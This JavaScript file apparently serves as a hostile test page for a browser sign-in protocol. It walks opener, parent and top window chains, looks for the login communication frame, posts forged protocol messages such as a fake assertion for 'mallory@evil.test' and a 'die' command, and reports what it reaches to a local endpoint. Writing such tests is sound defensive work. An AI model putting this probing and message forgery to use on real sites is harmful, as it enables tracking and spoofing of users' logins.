// A page of a provider that wants to know which site its user signs in to, and to meddle (security.md E1). It gets hold of every window
// that it can, counts its frames, looks for the observer's frame, speaks to it in all voices of the protocol, and reports.
;(function () {
  'use strict'

  const ways = {
    opener: () => window.opener,
    parent: () => window.parent,
    top: () => window.top,
    'opener.opener': () => window.opener.opener,
    'opener.opener.opener': () => window.opener.opener.opener,
    'opener.parent': () => window.opener.parent,
    'opener.top.opener': () => window.opener.top.opener,
    'parent.opener': () => window.parent.opener,
    'top.opener': () => window.top.opener,
    'parent.opener.opener': () => window.parent.opener.opener,
  }

  const voices = [
    'die',
    { a: 'ready' },
    { a: 'request', d: { method: 'get', params: { siteName: 'Hostile', rp_api: 'stateless' } } },
    { a: 'response', d: { assertion: 'forged', email: 'mallory@evil.test' } },
    { method: 'mozid_ni::login', params: 'forged' },
  ].map((voice) => (typeof voice === 'string' ? voice : JSON.stringify(voice)))

  const report = {
    id: crypto.randomUUID(),
    page: location.pathname,
    framed: window.parent !== window,
    reached: [],
    heard: [],
  }
  window.hostileReport = report

  const seesCommunication = (other) => {
    try {
      return Boolean(other.frames.__persona_comm)
    } catch {
      return false // a property of a stranger that is no frame may not be read
    }
  }

  const tell = () => {
    fetch('/report', { method: 'POST', body: JSON.stringify(report), keepalive: true }).catch(
      () => {},
    )
  }

  addEventListener('message', (event) => {
    report.heard.push(event.origin + ' ' + String(event.data).slice(0, 200))
    tell()
  })

  const known = new Set([window]) // in a window of its own, parent.opener is opener once more
  for (const [path, reach] of Object.entries(ways)) {
    let other
    try {
      other = reach()
    } catch {
      continue // nobody there to ask
    }
    if (!other || known.has(other)) continue
    known.add(other)
    report.reached.push({ path, frames: other.length, communication: seesCommunication(other) })
    for (const voice of voices) other.postMessage(voice, '*')
  }
  tell()
})()
